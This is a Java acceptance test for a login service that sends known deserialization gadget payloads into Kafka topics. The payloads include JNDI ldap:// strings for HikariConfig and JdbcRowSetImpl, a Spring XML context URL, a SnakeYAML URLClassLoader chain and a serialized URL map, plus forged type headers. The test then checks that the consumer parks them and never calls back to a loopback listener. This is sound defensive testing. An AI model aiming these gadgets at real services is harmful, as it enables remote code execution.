package io.scanpass.acceptance.threats;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.scanpass.acceptance.PhoneApp;
import io.scanpass.acceptance.ScanPass;
import io.scanpass.acceptance.SharedScanPass;
import io.scanpass.acceptance.WebPage;
import io.scanpass.contract.seal.Ids;
import io.scanpass.testing.Backends;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Future;
import java.util.stream.Stream;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.clients.producer.RecordMetadata;
import org.apache.kafka.common.serialization.ByteArraySerializer;
import org.apache.kafka.common.serialization.StringSerializer;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** T28: what lies on Kafka is read as the event its type names, never as the class that it names itself. */
@ExtendWith(SharedScanPass.class)
class T28GadgetIT {

    private static final Map<String, String> TYPES = Map.of(
            "scanpass.users", "io.scanpass.user.registered.v2",
            "scanpass.qr-logins", "io.scanpass.qr-login.requested.v2",
            "scanpass.sessions", "io.scanpass.session.started.v2");

    private final ScanPass scanPass;

    T28GadgetIT(ScanPass scanPass) {
        this.scanPass = scanPass;
    }

    @Test
    void gadgetsAreParkedAndLoginsGoOn() throws IOException {
        double parked = parked();
        try (ServerSocket callHome = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            List<byte[]> gadgets = gadgets("127.0.0.1:" + callHome.getLocalPort());
            int sent = send(gadgets);
            PhoneApp phone = PhoneApp.registered(scanPass);
            WebPage page = WebPage.asking(scanPass);
            phone.scan(page).is(200);
            phone.confirm(page).is(200);
            page.watch().await("confirmed");
            page.redeem().is(200);

            Awaitility.await().untilAsserted(() -> assertThat(parked() - parked).isEqualTo(sent));
            assertThat(Files.readString(scanPass.querySide.log())).contains("unreadable record at");
            callHome.setSoTimeout(1); // had one been built, it would have called while the login was played
            assertThatThrownBy(callHome::accept).isInstanceOf(SocketTimeoutException.class);
        }
    }

    private double parked() {
        return Metrics.sum(scanPass.querySide, "scanpass_consume_poison", "");
    }

    private static List<byte[]> gadgets(String home) throws IOException {
        ByteArrayOutputStream serialized = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(serialized)) {
            out.writeObject(new HashMap<>(Map.of(URI.create("http://" + home), "x")));
        }
        Stream<String> jsons = Stream.of(
                "[\"com.zaxxer.hikari.HikariConfig\",{\"metricRegistry\":\"ldap://HOME/x\"}]",
                "{\"@class\":\"com.zaxxer.hikari.HikariConfig\",\"metricRegistry\":\"ldap://HOME/x\"}",
                "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://HOME/x\",\"autoCommit\":true}",
                "{\"session_id\":[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://HOME/x\"]}",
                "{\"started_at\":{\"@class\":\"java.net.URL\",\"val\":\"http://HOME/x\"}}",
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://HOME/x\"]]]]");
        return Stream.concat(
                        jsons.map(json -> json.replace("HOME", home).getBytes(StandardCharsets.UTF_8)),
                        Stream.of(serialized.toByteArray()))
                .toList();
    }

    /** Into every partition, so that whatever stops at one of them stops a login. */
    private static int send(List<byte[]> gadgets) {
        Map<String, Object> settings =
                Map.of("bootstrap.servers", Backends.selected().kafkaBootstrapServers());
        List<Future<RecordMetadata>> sent = new ArrayList<>();
        try (KafkaProducer<String, byte[]> producer =
                new KafkaProducer<>(settings, new StringSerializer(), new ByteArraySerializer())) {
            for (Map.Entry<String, String> topic : TYPES.entrySet()) {
                int partitions = producer.partitionsFor(topic.getKey()).size();
                for (int partition = 0; partition < partitions; partition++) {
                    for (byte[] gadget : gadgets) {
                        sent.add(producer.send(message(topic.getKey(), partition, topic.getValue(), gadget)));
                    }
                }
            }
        }
        assertThat(sent).allMatch(Future::isDone).noneMatch(record -> record.state() == Future.State.FAILED);
        return sent.size();
    }

    private static ProducerRecord<String, byte[]> message(String topic, int partition, String type, byte[] gadget) {
        ProducerRecord<String, byte[]> message = new ProducerRecord<>(topic, partition, Ids.random(), gadget);
        Map.of(
                        Published.FORGED,
                        "",
                        "ce_type",
                        type,
                        "ce_sequence",
                        "0",
                        "content-type",
                        "application/x-java-serialized-object",
                        "__TypeId__",
                        "com.zaxxer.hikari.HikariConfig",
                        "spring_json_header_types",
                        "{\"x\":\"java.net.URL\"}",
                        "springDeserializerExceptionValue",
                        "x")
                .forEach((name, value) -> message.headers().add(name, value.getBytes(StandardCharsets.UTF_8)));
        return message;
    }
}
